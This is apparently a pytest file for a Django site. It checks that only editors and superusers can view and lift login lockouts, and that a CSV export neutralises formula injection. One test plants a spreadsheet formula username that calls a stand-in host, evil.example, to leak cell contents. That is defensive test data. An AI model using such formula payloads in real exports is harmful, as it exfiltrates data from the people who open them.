"""Who can see and lift lockouts: editors and superusers, and nobody else."""

import csv
import io

import pytest
from axes.models import AccessAttempt

from django.test import Client
from django.urls import reverse

from accounts.report import CLEAR_ADDRESS, CLEAR_URL_NAME, REPORT_URL_NAME
from tests.factories import UserFactory

from .conftest import BOT_ADDRESS, HOME_ADDRESS, PASSWORD, PER_ADDRESS, PER_USER, sign_in

pytestmark = pytest.mark.django_db


@pytest.fixture
def locked(editorial):
    """The writer locked out from home by their own typing, and a bot's address locked."""
    for _ in range(PER_USER):
        sign_in(Client(), "writer", "wrong", HOME_ADDRESS)
    bot = Client()
    for n in range(PER_ADDRESS):
        sign_in(bot, f"guess{n}", "wrong", BOT_ADDRESS)
    assert sign_in(Client(), "writer", PASSWORD, HOME_ADDRESS).status_code == 429
    return editorial


def writer_row():
    return AccessAttempt.objects.get(username="writer")


def test_an_editor_sees_who_is_locked_and_until_when(client, locked):
    client.force_login(locked.editor)

    html = client.get(reverse(REPORT_URL_NAME)).content.decode()

    assert "writer" in html and HOME_ADDRESS in html and BOT_ADDRESS in html
    assert "Locked until" in html and "Address locked until" in html
    menu = client.get("/admin/").content.decode()
    assert "Login lockouts" in menu


def test_an_editor_lifts_a_users_lock_and_the_user_signs_in(client, locked):
    client.force_login(locked.editor)

    response = client.post(reverse(CLEAR_URL_NAME, args=[writer_row().pk]))

    assert response.status_code == 302
    assert not AccessAttempt.objects.filter(username="writer").exists()
    assert sign_in(Client(), "writer", PASSWORD, HOME_ADDRESS).status_code == 302


def test_an_editor_lifts_an_address_lock(client, locked):
    client.force_login(locked.editor)
    row = AccessAttempt.objects.filter(ip_address=BOT_ADDRESS).first()

    client.post(reverse(CLEAR_URL_NAME, args=[row.pk]), {"scope": CLEAR_ADDRESS})

    assert not AccessAttempt.objects.filter(ip_address=BOT_ADDRESS).exists()
    assert AccessAttempt.objects.filter(username="writer").exists()  # only that address


def test_a_superuser_may_too(client, locked):
    client.force_login(UserFactory(is_superuser=True))
    assert client.get(reverse(REPORT_URL_NAME)).status_code == 200
    client.post(reverse(CLEAR_URL_NAME, args=[writer_row().pk]))
    assert not AccessAttempt.objects.filter(username="writer").exists()


@pytest.mark.parametrize("role", ["writer", "reviewer"])
def test_other_staff_can_neither_see_nor_lift_a_lock(client, locked, role):
    client.force_login(getattr(locked, role))
    before = AccessAttempt.objects.count()

    listing = client.get(reverse(REPORT_URL_NAME), follow=True)
    clearing = client.post(reverse(CLEAR_URL_NAME, args=[writer_row().pk]))

    assert HOME_ADDRESS not in listing.content.decode()
    assert clearing.status_code in (302, 403)
    assert AccessAttempt.objects.count() == before
    assert "Login lockouts" not in client.get("/admin/").content.decode()


def test_a_stranger_is_sent_to_sign_in(client, locked):
    before = AccessAttempt.objects.count()
    response = client.post(reverse(CLEAR_URL_NAME, args=[writer_row().pk]))
    assert response.status_code == 302 and "/admin/login/" in response["Location"]
    assert AccessAttempt.objects.count() == before


def test_clearing_a_row_that_is_gone_is_a_404_not_an_error(client, locked):
    client.force_login(locked.editor)
    assert client.post(reverse(CLEAR_URL_NAME, args=[999_999])).status_code == 404
    assert client.get(reverse(CLEAR_URL_NAME, args=[writer_row().pk])).status_code == 405


def test_a_username_typed_as_a_formula_is_text_in_the_csv_export(client, editorial):
    # A bot chooses the username; an editor opens the export in a spreadsheet.
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
    sign_in(Client(), formula, "wrong", BOT_ADDRESS)
    client.force_login(editorial.editor)
    export = client.get(reverse(REPORT_URL_NAME) + "?export=csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert [row["Username"] for row in rows] == ["'" + formula]
